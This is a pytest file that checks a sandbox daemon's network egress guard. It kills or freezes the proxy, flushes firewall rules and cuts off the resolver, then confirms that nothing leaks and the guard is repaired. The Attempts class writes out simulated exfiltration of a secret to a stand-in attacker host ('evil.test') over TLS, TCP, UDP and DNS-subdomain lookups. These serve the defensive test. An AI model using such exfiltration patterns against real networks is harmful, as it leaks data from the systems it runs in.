# SPDX-License-Identifier: Apache-2.0
"""When a part of the guard fails nothing passes, somebody is told, and it is repaired or stays cut: E12, C36.

One sandbox of each usable tier at a time, on a daemon of this file's own.
"""

import contextlib
import json
import os
import signal
import sqlite3
import time

import pytest

import host
import wire
from client import eventually
from fixtures import TIERS
from lab import ALLOWED, ATTACKER, RESOLVER
from names import Answer
from netns import Namespace
from networked import ALLOWED_ONLY, CA, OPEN, SETTINGS, Networked

STOP = "/tmp/stop"
GOOD = {"op": "tls", "to": [ALLOWED, 443], "sni": "allowed.test", "verify": CA, "timeout": 1,
        "request": "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"}


class Patient:
    """A daemon whose helpers die."""

    def __init__(self, daemon, lab):
        self.daemon, self.lab = daemon, lab

    def process(self, word):
        """The pid of this daemon's process with that word as argument; None when there is none."""
        lines = [line for line in host.command_lines([word]) if str(self.daemon.data_dir) in line]
        assert len(lines) <= 1, lines
        return int(lines[0].split()[0]) if lines else None

    @property
    def egress(self):
        return self.process("internal-egress-proxy")

    @property
    def keeper(self):
        return self.process("internal-keep-network")

    @contextlib.contextmanager
    def router(self):
        space = Namespace.of_process(self.keeper, "router")
        try:
            yield space
        finally:
            space.close()

    def wait_dead(self, pid, what):
        eventually(lambda: host.parents().get(pid, (0, "", "Z"))[2] == "Z", 60, what)

    def recorded_bytes(self, box):
        """What a daemon that starts now would know of the bytes that came in."""
        with contextlib.closing(sqlite3.connect(f"file:{self.daemon.data_dir}/glovebox.db?mode=ro", uri=True, timeout=60)) as store:
            (document,), = store.execute("SELECT document FROM sandboxes WHERE id = ?", (box.id,))
        return json.loads(document).get("network_in", 0)

    @contextlib.contextmanager
    def frozen(self):
        """The daemon can do nothing meanwhile: neither repair nor restart."""
        os.kill(self.daemon.pid, signal.SIGSTOP)
        try:
            yield
        finally:
            os.kill(self.daemon.pid, signal.SIGCONT)

    def log_mark(self):
        return self.daemon.log_path.stat().st_size

    def told(self, mark, *words, seconds=60):
        """An error or warning after `mark` in the daemon's log that holds every word."""
        def look():
            with open(self.daemon.log_path, errors="replace") as file:
                file.seek(mark)
                return [line for line in file if all(word in line for word in words) and ("error" in line or "warn" in line)]
        return eventually(look, seconds, f"the daemon's log tells of {words}")


@pytest.fixture(scope="module")
def patient(make_daemon, lab):
    return Patient(make_daemon(config=SETTINGS), lab)


@pytest.fixture
def boxes(patient, lab):
    """One sandbox of each usable tier, with ALLOWED_ONLY."""
    api = patient.daemon.admin
    usable = [r["runtime"] for r in api.call("GET", "/v1/runtimes")["runtimes"] if r["usable"] and r["runtime"] in TIERS]
    made = [Networked.create(api, lab, tier, ALLOWED_ONLY) for tier in usable]
    yield made
    for box in made:
        box.api = patient.daemon.admin  # it may be another daemon by now
        box.close()
    lab.settle()


class Attempts:
    """Loops of attempts to get out by every way, and one to the allowed host, that go on until they are told to stop."""

    def __init__(self, box):
        secret = "s3cr3t"
        denied = [{"op": "tls", "to": [ATTACKER, 443], "sni": "evil.test", "request": secret, "timeout": 0.5},
                  {"op": "tcp", "to": [ATTACKER, 80], "send": f"GET /{secret} HTTP/1.1\r\nHost: evil.test\r\n\r\n", "timeout": 0.5},
                  {"op": "tcp", "to": [ATTACKER, 7777], "send": secret, "timeout": 0.5},
                  {"op": "tcp", "to": ["10.9.0.9", 80], "send": secret, "timeout": 0.5},
                  {"op": "udp", "to": [ATTACKER, 443], "send": secret, "timeout": 0.3},
                  {"op": "resolve", "name": f"{secret}.evil.test"},
                  {"op": "tcp", "to": [box.gateway, 3129], "send": f"GET http://evil.test/{secret} HTTP/1.1\r\nHost: evil.test\r\n\r\n", "timeout": 0.5},
                  {"op": "tls", "to": [box.gateway, 3129], "sni": "evil.test", "request": secret, "timeout": 0.5},
                  {"op": "udp", "to": [box.gateway, 3053], "send": secret, "timeout": 0.3}]
        self.box, self.before = box, len(box.log())
        self.finish = box.begin(*[{"op": "loop", "seconds": 120, "stop": STOP, "at_least": 2, "task": task} for task in [GOOD, *denied]])

    def have_succeeded(self, times=1):
        """Waits until those to the allowed host have."""
        answered = lambda: [e for e in self.box.log()[self.before:] if e["port"] == 443 and e.get("phase") == "close" and e["bytes_in"] > 500]
        eventually(lambda: len(answered()) >= times, 60, f"{self.box.tier}: the allowed host is reached")

    def stop(self):
        """The results."""
        self.box.tell(STOP)
        return self.finish()


class Tries:
    """The attempts to reach the allowed host as the links show them, whatever came of them: nobody else can be asked meanwhile."""

    def __init__(self, boxes):
        self.captures = {box.tier: wire.Capture(box.namespace, "eth0") for box in boxes}

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for capture in self.captures.values():
            capture.close()

    def wait_for_more(self):
        """Until each has begun one anew: the first that is seen may be the end of an earlier one."""
        marks = {tier: capture.mark() for tier, capture in self.captures.items()}
        for tier, capture in self.captures.items():
            dialled = lambda: {f.sport for f in capture.since(marks[tier], incoming_only=False) if f.dst == ALLOWED and f.dport == 443 and f.flags & (wire.SYN | wire.ACK) == wire.SYN}
            eventually(lambda: len(dialled()) >= 2, 60, f"{tier}: the attempts go on")


def assert_nothing_got_out(results):
    for result in results[1:]:
        for _, _, outcome, text in result["outcomes"]:
            assert outcome != "good" or "egress_denied" in text, result


def good_between(result, begin, end):
    return [o for o in result["outcomes"] if o[2] == "good" and begin <= o[0] and o[1] <= end]


def assert_works(boxes, seconds=60):
    for box in boxes:
        eventually(lambda box=box: box.one(**{**GOOD, "timeout": 20}).get("handshake"), seconds, f"{box.tier}: the allowed host is reached again")
        assert not box.one(op="tls", to=[ATTACKER, 443], sni="evil.test", request="x").get("handshake")


def test_the_control_of_this_file_works(boxes, lab):
    with lab.watch() as seen:
        running = [Attempts(box) for box in boxes]
        for attempts in running:
            attempts.have_succeeded(2)
        results = [attempts.stop() for attempts in running]
        assert_works(boxes)
    for result in results:
        assert len([o for o in result[0]["outcomes"] if o[2] == "good"]) >= 2, result[0]
        assert_nothing_got_out(result)
    seen.assert_only({(ALLOWED, 443)}, {"allowed.test"})


def test_e12_c36_without_the_proxy_nothing_passes(patient, boxes, lab):
    """Killed, with the daemon unable to start another one; then it may."""
    mark = patient.log_mark()
    with lab.watch() as seen:
        stream = [box.begin({"op": "tcp", "to": [ALLOWED, 80], "send": "GET /stream HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "timeout": 60,
                             "limit": 1 << 24}) for box in boxes]
        eventually(lambda: len([v for v in lab.site.since(seen.marks["site"]) if v.sent > 200]) == len(boxes), 60, "the streams flow")
        running = [Attempts(box) for box in boxes]
        with Tries(boxes) as tries:
            for attempts in running:
                attempts.have_succeeded()
            proxy = patient.egress
            with patient.frozen():
                os.kill(proxy, signal.SIGKILL)
                patient.wait_dead(proxy, "the proxy is dead")
                lab.fence()
                dead_from, dead_mark = time.time(), lab.uplink.mark()
                time.sleep(2)
                tries.wait_for_more()
                lab.fence()
                dead_until, while_dead = time.time(), lab.uplink.since(dead_mark)
        results = [attempts.stop() for attempts in running]
    leaked = [f for f in while_dead if f.payload and not f.payload.startswith(b"fence-")]
    assert not leaked, leaked
    for result in results:
        assert_nothing_got_out(result)
        assert not good_between(result[0], dead_from, dead_until), result[0]
        assert [o for o in result[0]["outcomes"] if dead_from <= o[0] < dead_until and o[2] in ("ECONNREFUSED", "ECONNRESET", "timeout")], result[0]
    assert all(finish()[0]["end"] in ("eof", "ECONNRESET") for finish in stream)
    seen.assert_only({(ALLOWED, 443), (ALLOWED, 80)}, {"allowed.test"})
    patient.told(mark, "egress")
    assert_works(boxes)


def test_e12_a_proxy_that_hangs_passes_nothing_and_is_replaced(patient, boxes, lab):
    mark, pid = patient.log_mark(), patient.egress
    with lab.watch() as seen:
        os.kill(pid, signal.SIGSTOP)
        try:
            running = [Attempts(box) for box in boxes]
            until = quiet_until(lab, lambda: patient.egress == pid)
            eventually(lambda: patient.egress not in (pid, None), 60, "another proxy has taken over")
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGCONT)
        results = [attempts.stop() for attempts in running]
    left = [f for f in lab.uplink.since(seen.marks["uplink"], end=until[1]) if f.payload and not f.payload.startswith(b"fence-")]
    assert not left, left
    seen.assert_only({(ALLOWED, 443)}, {"allowed.test"})
    for result in results:
        assert_nothing_got_out(result)
        assert [o for o in result[0]["outcomes"] if o[0] < until[0]], "nothing was tried while it hung"
        assert not good_between(result[0], 0, until[0]), result[0]
    patient.told(mark, "egress")
    assert_works(boxes)


def quiet_until(lab, lasts):
    """(wall clock, mark of the uplink) of the last moment for which `lasts` was true afterwards."""
    last = time.time(), lab.uplink.mark()
    while True:
        lab.fence()
        now = time.time(), lab.uplink.mark()
        if not lasts():
            return last
        last = now
        time.sleep(0.1)


@pytest.mark.parametrize("command", [["flush", "ruleset"], ["flush", "table", "inet", "glovebox"], ["flush", "chain", "inet", "glovebox", "guard"]],
                         ids=" ".join)
def test_e12_a_changed_packet_filter_passes_nothing_and_is_repaired(patient, boxes, lab, command):
    mark = patient.log_mark()
    rules = lambda router: router.run("nft", "-s", "-t", "list", "ruleset", check=False)
    with patient.router() as router, lab.watch() as seen:
        before = rules(router)
        assert "redirect" in before
        running = [Attempts(box) for box in boxes]
        with Tries(boxes) as tries:
            for attempts in running:
                attempts.have_succeeded()
            with patient.frozen():
                router.run("nft", *command)
                assert rules(router) != before
                time.sleep(2.2)
                tries.wait_for_more()
                assert rules(router) != before
        eventually(lambda: rules(router) == before, 60, "the filter is as it was")
        results = [attempts.stop() for attempts in running]
    seen.assert_only({(ALLOWED, 443)}, {"allowed.test"})
    for result in results:
        assert_nothing_got_out(result)
    patient.told(mark, "network.alert")
    assert_works(boxes)


def test_e12_the_keeper_of_the_router_may_die(patient, boxes, lab):
    mark = patient.log_mark()
    with lab.watch() as seen:
        os.kill(patient.keeper, signal.SIGKILL)
        running = [Attempts(box) for box in boxes]
        for attempts in running:
            attempts.have_succeeded()
        results = [attempts.stop() for attempts in running]
        assert_works(boxes)
    for result in results:
        assert_nothing_got_out(result)
    seen.assert_only({(ALLOWED, 443)}, {"allowed.test"})
    eventually(lambda: patient.keeper, 60, "the router namespace is kept again")
    patient.told(mark, "keeper")


@pytest.mark.parametrize("how", ["cut off", "refusing"])
def test_e12_without_the_resolver_names_fail_and_nobody_else_is_asked(patient, boxes, lab, how):
    host_name = f"x{os.urandom(4).hex()}.allowed.test"  # one that nobody has asked for
    lab.names.script(host_name, Answer([("A", ALLOWED)]))
    answer = {"op": "resolve", "name": host_name}
    for box in boxes:
        box.set_policy({"egress": "allowlist", "allow": [{"host": "*.allowed.test"}]})
    if how == "cut off":
        lab.resolver.run("ip", "link", "set", "eth0", "down")
    else:
        lab.resolver.run("nft", "-f", "-", input="table ip off { chain in { type filter hook input priority 0; "
                         "ip saddr 45.0.0.0/24 reject; }; }")
    try:
        with lab.watch() as seen:
            results = [(*box.attempt(answer, {**GOOD, "sni": host_name, "timeout": 60}), box.quickest(op="resolve", name="evil.test"))
                       for box in boxes]
    finally:
        lab.resolver.run("nft", "delete", "table", "ip", "off", check=False)
        lab.resolver.run("ip", "link", "set", "eth0", "up")
        lab.resolver.run("ip", "route", "replace", "default", "via", "45.53.0.1")
    for name, connection, other in results:
        assert name["error"] == "EAI_AGAIN" and name["ms"] < 40_000, name  # what programs try again
        assert not connection.get("handshake") and connection["error"] not in ("alert 49", "timeout"), connection
        assert other["error"] and other["ms"] < 2000, other
    assert not seen.at_attacker and not seen.destinations - {(RESOLVER, 53)}, seen.left
    for box in boxes:
        assert box.logged(kind="connection", host=host_name)[-1]["verdict"] == "failed"
        eventually(lambda box=box: box.one(**answer).get("addresses") == [ALLOWED], 60, "names resolve again")


def test_e12_the_daemon_dies_and_comes_back(patient, boxes, lab):
    """Nothing passes while it is away; then the policies are in force again, as they were last."""
    boxes[0].set_policy(OPEN)
    boxes[0].set_policy(ALLOWED_ONLY)
    before = {box.id: len(box.log()) for box in boxes}
    with lab.watch() as seen:
        running = [(box, Attempts(box)) for box in boxes]
        with Tries(boxes) as tries:
            for _, attempts in running:
                attempts.have_succeeded()
            tries.wait_for_more()
            proxy = patient.egress
            patient.daemon.process.send_signal(signal.SIGKILL)
            patient.daemon.process.wait()
            patient.wait_dead(proxy, "the proxy ends with the daemon")
            lab.fence()
            dead_from, dead_mark = time.time(), lab.uplink.mark()
            time.sleep(1.5)
            tries.wait_for_more()
            lab.fence()
            dead_until, while_dead = time.time(), lab.uplink.since(dead_mark)
        patient.daemon.start()
        results = []
        for old, _ in running:
            box = again(patient, lab, old)
            eventually(lambda box=box: box.one(**{**GOOD, "timeout": 20}).get("handshake"), 60, f"{box.tier}: the allowed host is reached again")
            box.tell(STOP)
    leaked = [f for f in while_dead if f.payload and not f.payload.startswith(b"fence-")]
    assert not leaked, leaked
    seen.assert_only({(ALLOWED, 443)}, {"allowed.test"})
    for old, _ in running:
        box = again(patient, lab, old)
        assert box.network()["policy"]["egress"] == "allowlist" and box.network()["link"] is True
        assert len(box.log()) >= before[box.id], "the connection log outlives the daemon"
        assert not box.one(op="tls", to=[ATTACKER, 443], sni="evil.test", request="x").get("handshake")
        assert box.logged(host="evil.test", verdict="denied")
        eventually(lambda box=box: box.network()["usage"]["bytes_in"] > 0, 60, "use is counted again")
        results += [eventually(lambda box=box: loop_results(box), 60, "the attempts of before have ended")]
    for result in results:
        assert_nothing_got_out(result)
        assert not good_between(result[0], dead_from, dead_until), result[0]
        assert good_between(result[0], 0, dead_from), result[0]


def test_byte_counts_outlive_the_daemon(patient, boxes, lab):
    """Limits on bytes hold over restarts."""
    before = {}
    good = {**GOOD, "timeout": 20}
    for box in boxes:
        box.set_policy(ALLOWED_ONLY)
        assert box.one(**good).get("handshake")
        before[box.id] = eventually(lambda: box.network()["usage"]["bytes_in"], 60, "what passed is counted")
        # What passes soon after is recorded too, though nothing follows it.
        assert box.one(**good).get("handshake")
        before[box.id] = eventually(lambda: (now := box.network()["usage"]["bytes_in"]) >= before[box.id] + 500 and now, 60, "and so is what follows")
    for box in boxes:
        eventually(lambda: patient.recorded_bytes(box) >= before[box.id], 60, "what passed is recorded")
    patient.daemon.process.send_signal(signal.SIGKILL)
    patient.daemon.process.wait()
    patient.daemon.start()
    for old in boxes:
        assert again(patient, lab, old).network()["usage"]["bytes_in"] >= before[old.id]


def again(patient, lab, old):
    box = Networked(patient.daemon.admin, patient.daemon.admin.call("GET", old.path))
    box.lab, box.tier, box._namespace = lab, old.tier, None
    return box


def loop_results(box):
    """The results of attempts() that an earlier daemon started."""
    for entry in box.ls("/tmp"):
        if entry["name"].endswith(".results"):
            results = json.loads(box.get("/tmp/" + entry["name"]))
            if results and "outcomes" in results[0]:
                return results
    return None


def test_a_stopped_daemon_leaves_sandboxes_cut_off(patient, boxes, lab):
    running = [Attempts(box) for box in boxes]
    with Tries(boxes) as tries:
        for attempts in running:
            attempts.have_succeeded()
        proxy = patient.egress
        patient.daemon.stop()
        patient.wait_dead(proxy, "the proxy has ended with the daemon")
        with lab.watch() as seen:
            time.sleep(1)
            tries.wait_for_more()
    assert not [f for f in seen.left if f.payload], seen.left
    patient.daemon.start()
    assert_works([again(patient, lab, box) for box in boxes])
